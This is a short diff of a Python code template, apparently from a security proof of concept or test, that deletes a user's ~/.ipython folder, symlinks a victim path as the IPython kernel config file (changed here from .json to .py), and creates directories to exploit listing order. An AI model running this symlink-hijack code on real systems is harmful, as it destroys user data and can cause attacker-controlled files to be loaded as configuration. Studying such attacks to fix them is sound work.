@@ -255,7 +255,7 @@ import os, shutil
 os.chdir(os.environ['HOME'])
 shutil.rmtree('.ipython')
 os.makedirs('.ipython/profile_default')
-os.symlink({victim!r}, '.ipython/profile_default/ipython_kernel_config.json')
+os.symlink({victim!r}, '.ipython/profile_default/ipython_kernel_config.py')
 for number in range(1000):  # a name that comes before the other in the folder
     os.mkdir(f'd{{number}}')
     if os.listdir('.').index(f'd{{number}}') < os.listdir('.').index('.ipython'): break
